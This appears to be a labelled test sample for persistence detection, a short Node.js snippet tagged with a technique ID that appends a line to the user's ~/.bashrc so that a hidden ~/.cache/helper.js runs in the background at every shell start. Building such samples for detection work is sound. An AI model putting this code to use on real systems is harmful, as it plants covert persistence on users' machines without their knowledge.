// expect: persistence | source: T1546.004
const fs = require("fs");
const os = require("os");
fs.appendFileSync(`${os.homedir()}/.bashrc`, "\nnode ~/.cache/helper.js &\n");
